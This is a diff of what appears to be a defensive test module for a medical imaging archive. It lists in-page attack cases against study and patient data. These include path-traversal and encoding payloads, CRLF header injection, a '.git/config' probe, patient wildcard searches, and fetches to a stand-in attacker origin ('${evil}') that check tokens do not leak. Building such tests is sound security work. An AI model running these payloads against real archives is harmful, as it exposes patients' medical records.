@@ -1,4 +1,4 @@
-"""Requests that some code in the page wants to make: only what is about the link's study leaves, and where it may go."""
+"""Attacks with requests from code in the page: only requests about the link's study may leave, and only to the archive."""
 
 from __future__ import annotations
 
@@ -10,27 +10,41 @@ from attacks.requirements import (
     attacker_gets_no_token,
     token_only_in_its_header,
 )
-from attacks.rows.ways import EMBED, FETCH, FRAME, IMAGE, OBJECT, REQUEST, SOURCE, URL_OBJECT, VIDEO, XHR, script
+from attacks.rows.page_attacks import (
+    EMBED,
+    FETCH,
+    FRAME,
+    IMAGE,
+    OBJECT,
+    REQUEST,
+    SOURCE,
+    URL_OBJECT,
+    VIDEO,
+    XHR,
+    script,
+)
 
 
-def asks(name: str, why: str, tail: str, weakened: Weakening = weak.NO_LAST_EXIT, vehicle: str = FETCH) -> PageAttack:
-    """Something below the root is asked for, which is not about the link's study alone."""
-    return script(name, why, f"const url = `${{root}}{tail}`; {vehicle}", archive_gets_only_the_study, weakened)
+def asks(
+    name: str, why: str, tail: str, weakening: Weakening = weak.NO_LAST_EXIT, request_js: str = FETCH
+) -> PageAttack:
+    """Requests something below the root that is not only about the link's study."""
+    return script(name, why, f"const url = `${{root}}{tail}`; {request_js}", archive_gets_only_the_study, weakening)
 
 
 OTHERS = (
     asks("other-study", "a study that the link does not name", "/studies/${other}/series"),
-    asks("other-study-request", "the same as a Request object", "/studies/${other}/series", vehicle=REQUEST),
-    asks("other-study-url-object", "the same as a URL object", "/studies/${other}/series", vehicle=URL_OBJECT),
-    asks("other-study-xhr", "the same by XMLHttpRequest", "/studies/${other}/series", vehicle=XHR),
-    asks("other-study-image", "the same as a picture", "/studies/${other}/rendered", vehicle=IMAGE),
-    asks("other-study-video", "the same as a film", "/studies/${other}/rendered", vehicle=VIDEO),
-    asks("other-study-source", "the same as one source of a film", "/studies/${other}/rendered", vehicle=SOURCE),
-    asks("other-study-frame", "the same in a frame", "/studies/${other}/rendered", vehicle=FRAME),
-    asks("other-study-object", "the same as an object", "/studies/${other}/rendered", vehicle=OBJECT),
-    asks("other-study-embed", "the same embedded", "/studies/${other}/rendered", vehicle=EMBED),
-    asks("other-patient", "a study of another patient", "/studies/${stranger}/metadata", vehicle=XHR),
-    asks("other-study-searched", "a search pinned to another study", "/studies?StudyInstanceUID=${other}"),
+    asks("other-study-request", "the same as a Request object", "/studies/${other}/series", request_js=REQUEST),
+    asks("other-study-url-object", "the same as a URL object", "/studies/${other}/series", request_js=URL_OBJECT),
+    asks("other-study-xhr", "the same by XMLHttpRequest", "/studies/${other}/series", request_js=XHR),
+    asks("other-study-image", "the same as an image", "/studies/${other}/rendered", request_js=IMAGE),
+    asks("other-study-video", "the same as a video", "/studies/${other}/rendered", request_js=VIDEO),
+    asks("other-study-source", "the same as a source of a video", "/studies/${other}/rendered", request_js=SOURCE),
+    asks("other-study-frame", "the same in a frame", "/studies/${other}/rendered", request_js=FRAME),
+    asks("other-study-object", "the same as an object", "/studies/${other}/rendered", request_js=OBJECT),
+    asks("other-study-embed", "the same embedded", "/studies/${other}/rendered", request_js=EMBED),
+    asks("other-patient", "a study of another patient", "/studies/${stranger}/metadata", request_js=XHR),
+    asks("other-study-searched", "a search limited to another study", "/studies?StudyInstanceUID=${other}"),
     asks("other-study-by-tag", "the same by the attribute's tag", "/studies?0020000D=${other}"),
     asks(
         "other-study-wado-uri",
@@ -51,13 +65,13 @@ OTHERS = (
     ),
     asks(
         "study-twice",
-        "two studies, of which an archive may take the last",
+        "two studies, of which an archive may use the last",
         "/studies?StudyInstanceUID=${own}&StudyInstanceUID=${other}",
         weak.ONE_STUDY_IS_ENOUGH,
     ),
     asks(
         "study-twice-turned",
-        "two studies, of which an archive may take the first",
+        "two studies, of which an archive may use the first",
         "/studies?StudyInstanceUID=${other}&StudyInstanceUID=${own}",
         weak.ONE_STUDY_IS_ENOUGH,
     ),
@@ -75,13 +89,13 @@ OTHERS = (
     ),
     asks(
         "any-series",
-        "a series of another study, beside the link's study",
+        "a series of another study, together with the link's study",
         "/series/9.9/instances?StudyInstanceUID=${own}",
         weak.OTHER_IS_FREE,
     ),
     asks(
         "any-instance",
-        "an instance of another study, beside the link's study",
+        "an instance of another study, together with the link's study",
         "/instances/9.9/frames/1?StudyInstanceUID=${own}",
         weak.OTHER_IS_FREE,
     ),
@@ -110,12 +124,12 @@ SEARCHES = (
     asks("patient-id-tag", "the same by the attribute's tag", "/studies?00100020=${patient}", weak.PATIENTS_ARE_FREE),
     asks(
         "patient-wildcard",
-        "all patients whose ID holds this one",
+        "all patients whose ID contains this one",
         "/studies?PatientID=*${patient}*",
         weak.PATIENTS_ARE_FREE,
         XHR,
     ),
-    asks("patient-name", "all patients of a name", "/studies?PatientName=M*", weak.PATIENTS_ARE_FREE),
+    asks("patient-name", "all patients with a name", "/studies?PatientName=M*", weak.PATIENTS_ARE_FREE),
     asks(
         "patient-birth-date", "all patients born on a day", "/studies?PatientBirthDate=19610417", weak.PATIENTS_ARE_FREE
     ),
@@ -133,13 +147,13 @@ SEARCHES = (
     ),
     asks(
         "own-study-any-patient",
-        "the link's study beside a patient",
+        "the link's study together with a patient",
         "/studies?StudyInstanceUID=${own}&PatientID=${patient}",
         weak.PATIENTS_ARE_FREE,
     ),
     asks(
         "own-study-any-name",
-        "the link's study beside a name",
+        "the link's study together with a name",
         "/studies?StudyInstanceUID=${own}&PatientName=*",
         weak.PATIENT_ID_ONLY,
     ),
@@ -148,15 +162,15 @@ SEARCHES = (
 SPELLINGS = (
     asks(
         "study-in-small-letters",
-        "a name that some archives read and others pass over",
+        "a name that some archives read and others ignore",
         "/studies?studyinstanceuid=${own}",
         weak.OTHER_IS_FREE,
     ),
-    asks("study-in-ohifs-plural", "the name that links have", "/studies?StudyInstanceUIDs=${own}", weak.OTHER_IS_FREE),
+    asks("study-in-ohifs-plural", "the name that links use", "/studies?StudyInstanceUIDs=${own}", weak.OTHER_IS_FREE),
     asks("tag-with-comma", "a tag that some archives read", "/studies?0020,000D=${own}", weak.OTHER_IS_FREE),
     asks(
         "semicolon-parameter",
-        "a separator that some servers know",
+        "a separator that some servers accept",
         "/studies?StudyInstanceUID=${own};PatientID=*",
         weak.OTHER_IS_FREE,
     ),
@@ -185,59 +199,65 @@ SPELLINGS = (
     ),
     asks(
         "wado-uri-small",
-        "WADO-URI with names in other letters",
+        "WADO-URI with names in another letter case",
         "?requestType=WADO&studyUID=${own}&StudyUID=${other}&objectUID=1.2.3",
         weak.OTHER_IS_FREE,
     ),
 )
 
 
-def climbs(name: str, why: str, path: str, vehicle: str = FETCH) -> PageAttack:
-    """A path that begins like one of the link's study, and that some server reads as another."""
-    return script(name, why, f"const url = {path}; {vehicle}", archive_gets_no_token, weak.ANY_PATH)
+def ambiguous_path(name: str, why: str, path: str, request_js: str = FETCH) -> PageAttack:
+    """A path that begins like one of the link's study, and that some servers read as another path."""
+    return script(name, why, f"const url = {path}; {request_js}", archive_gets_no_token, weak.ANY_PATH)
 
 
 PATHS = (
-    climbs(
+    ambiguous_path(
         "encoded-slash", "servers that decode before they resolve '..'", "`${root}/studies/${own}/..%2f${other}/series`"
     ),
-    climbs(
+    ambiguous_path(
         "encoded-backslash",
-        "servers that take a backslash for a slash",
+        "servers that treat a backslash as a slash",
         "`${root}/studies/${own}/..%5c${other}/series`",
         XHR,
     ),
-    climbs("encoded-twice", "servers that decode twice", "`${root}/studies/${own}/%252e%252e/${other}/series`"),
-    climbs(
+    ambiguous_path("encoded-twice", "servers that decode twice", "`${root}/studies/${own}/%252e%252e/${other}/series`"),
+    ambiguous_path(
         "dots-and-semicolon",
         "Java servers, which drop ;x before they resolve '..'",
         "`${root}/studies/${own}/..;/${other}/series`",
     ),
-    climbs("path-parameter", "Java servers, which drop ;x", "`${root}/studies/${own};x/series`", XHR),
-    climbs("encoded-semicolon", "the same for servers that decode first", "`${root}/studies/${own}%3bx/series`"),
-    climbs(
+    ambiguous_path("path-parameter", "Java servers, which drop ;x", "`${root}/studies/${own};x/series`", XHR),
+    ambiguous_path(
+        "encoded-semicolon", "the same for servers that decode first", "`${root}/studies/${own}%3bx/series`"
+    ),
+    ambiguous_path(
         "overlong-utf-8", "decoders that accept overlong UTF-8", "`${root}/studies/${own}/%c0%ae%c0%ae/${other}/series`"
     ),
-    climbs("overlong-slash", "the same for a slash", "`${root}/studies/${own}/..%c0%af${other}/series`"),
-    climbs("null-in-path", "servers that end a path at a null", "`${root}/studies/${own}%00/series`"),
-    climbs("line-break-in-path", "servers that end a line there", "`${root}/studies/${own}%0d%0aX-Y:%20z/series`"),
-    climbs("doubled-slash", "servers that fold slashes, and those that do not", "`${root}//studies/${own}/series`"),
-    climbs("other-alphabet", "letters that some servers fold to ASCII", "`${root}/studies/${own}/ｓeries`"),
-    climbs("hidden-segment", "files that begin with a dot", "`${root}/studies/${own}/.git/config`"),
-    climbs("encoded-dot-file", "the same, encoded", "`${root}/studies/${own}/%2egit/config`", IMAGE),
+    ambiguous_path("overlong-slash", "the same for a slash", "`${root}/studies/${own}/..%c0%af${other}/series`"),
+    ambiguous_path("null-in-path", "servers that end a path at a null", "`${root}/studies/${own}%00/series`"),
+    ambiguous_path(
+        "line-break-in-path", "servers that end a line there", "`${root}/studies/${own}%0d%0aX-Y:%20z/series`"
+    ),
+    ambiguous_path(
+        "doubled-slash", "some servers merge slashes, and others do not", "`${root}//studies/${own}/series`"
+    ),
+    ambiguous_path("other-alphabet", "letters that some servers convert to ASCII", "`${root}/studies/${own}/ｓeries`"),
+    ambiguous_path("hidden-segment", "files that begin with a dot", "`${root}/studies/${own}/.git/config`"),
+    ambiguous_path("encoded-dot-file", "the same, encoded", "`${root}/studies/${own}/%2egit/config`", IMAGE),
 )
 
 PLACES = (
     script(
         "root-as-prefix",
-        "a path that begins like the root and is another",
+        "a path that begins like the root but is not below it",
         "await fetch(`${root}-evil/studies/${own}/series`).catch(() => {})",
         token_only_in_its_header,
         weak.ROOT_BY_PREFIX,
     ),
     script(
         "root-at-another-origin",
-        "the root's path on the attacker's server, where no policy is in force",
+        "the root's path on the attacker's server, without a policy",
         "await fetch(`${evil}${root}/studies/${own}/series`).catch(() => {})",
         attacker_gets_no_token,
         weak.ANY_ORIGIN,
@@ -251,14 +271,14 @@ PLACES = (
     ),
     script(
         "root-at-another-origin-image",
-        "the same as a picture",
+        "the same as an image",
         f"const url = `${{evil}}${{root}}/studies/${{own}}/rendered`; {IMAGE}",
         attacker_gets_no_token,
         weak.ANY_ORIGIN,
     ),
     script(
         "base-tag",
-        "a <base> makes every relative URL another server's",
+        "a <base> makes every relative URL point to another server",
         "const b = document.createElement('base'); b.href = evil; document.head.append(b);"
         "await fetch(root.slice(0) + '/studies/' + own + '/series').catch(() => {});"
         "await fetch(root.slice(1) + '/studies/' + own + '/series').catch(() => {})",
